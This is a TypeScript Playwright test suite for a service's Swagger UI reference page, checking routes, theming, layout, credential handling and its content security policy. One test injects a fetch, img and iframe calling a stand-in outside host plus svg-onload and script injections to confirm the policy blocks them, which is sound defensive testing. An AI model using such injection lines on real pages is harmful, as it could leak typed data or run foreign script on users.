import type { Browser, Page } from 'playwright-core'
import { afterEach, beforeAll, describe, expect, test } from 'vitest'
import { chromium, openBrowser, openPage } from '../support/browser.ts'
import { credentialsOf, type ServiceProcess, startServiceProcess } from '../support/service-process.ts'

/** A browser reports and draws with some delay. */
const soon = { timeout: 60_000 }

describe.skipIf(chromium === null)('the reference page in Chromium', () => {
  let service: ServiceProcess
  let browser: Browser

  beforeAll(async () => {
    ;[service, browser] = await Promise.all([startServiceProcess(), openBrowser()])
  })

  describe('with JavaScript', () => {
    let reader: Awaited<ReturnType<typeof openPage>>

    beforeAll(async () => {
      reader = await openPage(browser, service.url, { colorScheme: 'light' })
      await reader.page.goto(`${service.url}/docs/#/me/showCaller`)
      await reader.page.locator('.opblock').first().waitFor()
    })

    afterEach(() => {
      expect(reader.complaints, 'console, policy and requests to elsewhere').toEqual([])
    })

    test('shows every route of the service', async () => {
      const shown = await reader.page
        .locator('.opblock-summary')
        .evaluateAll((rows) => rows.map((row) => row.textContent ?? ''))
      const { paths }: { paths: Record<string, object> } = await (await fetch(`${service.url}/openapi.json`)).json()
      const routes = Object.entries(paths).flatMap(([path, item]) =>
        Object.keys(item).map((method) => `${method.toUpperCase()}${path}`),
      )
      const withoutBreaks = shown.map((text) => text.replaceAll('\u200b', ''))
      expect(routes.filter((route) => !withoutBreaks.some((text) => text.startsWith(route)))).toEqual([])
      expect(shown.length).toBe(routes.length)
    })

    test('opens the route that a link names', async () => {
      await reader.page.locator('#operations-me-showCaller.is-open').waitFor()
      expect(await reader.page.locator('.opblock.is-open').count()).toBe(1)
      expect(await reader.page.locator('#operations-me-showCaller').textContent()).toContain(
        'The credential is missing or was rejected',
      )
    })

    test('is light or dark as the reader prefers, and follows a change', async () => {
      const background = () =>
        reader.page
          .locator('.swagger-ui')
          .evaluate((page) => getComputedStyle(page.ownerDocument.documentElement).backgroundColor)
      await reader.page.emulateMedia({ colorScheme: 'dark' })
      await expect.poll(background, soon).toBe('rgb(28, 32, 34)')
      await reader.page.emulateMedia({ colorScheme: 'light' })
      await expect.poll(background, soon).toBe('rgba(0, 0, 0, 0)')
    })

    test('is not wider than a phone', async () => {
      await reader.page.setViewportSize({ width: 360, height: 740 })
      expect(await reader.page.evaluate('document.documentElement.scrollWidth')).toBe(360)
      await reader.page.setViewportSize({ width: 1280, height: 900 })
    })

    test('never makes the browser ask for a password, which it would store and send with every request', async () => {
      const { page, complaints } = reader
      // While it asks, the page gets no answer.
      const refused = { status: 401, challenge: expect.stringMatching(/^Basic /) }
      expect(await tryOut(page, 'oauth-introspectToken', { token: 'any' })).toMatchObject(refused)
      expect(complaints.splice(0)).toEqual([expect.stringContaining('status of 401')])
    })

    test('calls the service at the address in the browser, even behind a proxy, and stores no API key', async () => {
      const { page } = reader
      const { apiKey } = await credentialsOf(service.folder)
      expect(service.issuer).not.toBe(service.url)
      await authorize(page, apiKey)
      expect(await tryOut(page, 'me-showCaller')).toMatchObject({ url: `${service.url}/v1/me`, status: 200 })
      expect(await page.evaluate('JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])')).toBe(
        '[{},{},""]',
      )
    })

    test('sends what was typed into a form or a filter, and not the examples', async () => {
      const { page } = reader
      const { apiKey, rootApiKey } = await credentialsOf(service.folder)
      await authorize(page, apiKey)
      expect(await tryOut(page, 'oauth-exchangeApiKey', { scope: 'orders:read' })).toMatchObject({
        status: 200,
        body: 'scope=orders%3Aread',
      })
      await authorize(page, rootApiKey)
      expect(await tryOut(page, 'audit-events-listAuditEvents')).toMatchObject({
        url: `${service.url}/v1/audit-events?limit=50`,
      })
    })
  })

  test('cannot send anything elsewhere, and does not run or show injected content', async () => {
    const { page, complaints } = await openPage(browser, service.url)
    await page.goto(`${service.url}/docs`, { waitUntil: 'commit' })
    await page.evaluate(`fetch('https://elsewhere.example/?typed').catch(() => {})`)
    await page.evaluate(`document.body.insertAdjacentHTML('beforeend', '<img src="https://elsewhere.example/?typed">')`)
    await page.evaluate(
      `document.body.insertAdjacentHTML('beforeend', '<iframe src="https://elsewhere.example/?typed">')`,
    )
    await page.evaluate(`document.body.insertAdjacentHTML('beforeend', '<svg onload="globalThis.slipped = true">')`)
    await page.evaluate(
      `document.body.append(Object.assign(document.createElement('script'), { text: 'globalThis.slipped = true' }))`,
    )
    const violations = () => complaints.filter((complaint) => complaint.startsWith('violation')).sort()
    await expect
      .poll(violations, soon)
      .toEqual([
        'violation of connect-src',
        'violation of frame-src',
        'violation of img-src',
        'violation of script-src-attr',
        'violation of script-src-elem',
      ])
    expect(complaints.filter((complaint) => complaint.startsWith('request'))).toEqual([])
    expect(await page.evaluate('globalThis.slipped')).toBeUndefined()
  })

  test('without JavaScript says where the same can be read', async () => {
    const { page, complaints } = await openPage(browser, service.url, { javaScriptEnabled: false })
    await page.goto(`${service.url}/docs`)
    await page.getByRole('link', { name: 'openapi.json' }).click()
    expect(page.url()).toBe(`${service.url}/openapi.json`)
    expect(complaints).toEqual([])
  })
})

async function authorize(page: Page, apiKey: string): Promise<void> {
  await page.locator('.btn.authorize').first().click()
  const bearer = page.locator('.auth-container').first()
  await bearer.waitFor()
  const signOut = bearer.getByRole('button', { name: 'Remove authorization' })
  if (await signOut.isVisible()) await signOut.click()
  await bearer.locator('input').fill(apiKey)
  await bearer.getByRole('button', { name: 'Apply credentials' }).click()
  await page.locator('.btn-done').first().click()
}

/** Opens the operation if it is closed, fills in the form, sends it, closes it, and returns what went over the wire. */
async function tryOut(page: Page, operation: string, form: Record<string, string> = {}) {
  const block = page.locator(`#operations-${operation}`)
  if (!(await block.getAttribute('class'))?.includes('is-open')) await block.locator('.opblock-summary-control').click()
  await block.getByRole('button', { name: 'Try it out' }).click()
  for (const [name, value] of Object.entries(form))
    await block.locator(`[data-property-name="${name}"] input:not([type=checkbox])`).fill(value)
  const answered = page.waitForResponse(() => true)
  await block.getByRole('button', { name: 'Execute' }).click()
  const answer = await answered
  await block
    .locator('.live-responses-table .response-col_status', { hasText: String(answer.status()) })
    .first()
    .waitFor()
  return {
    url: answer.url(),
    status: answer.status(),
    challenge: answer.headers()['www-authenticate'],
    body: answer.request().postData(),
  }
}
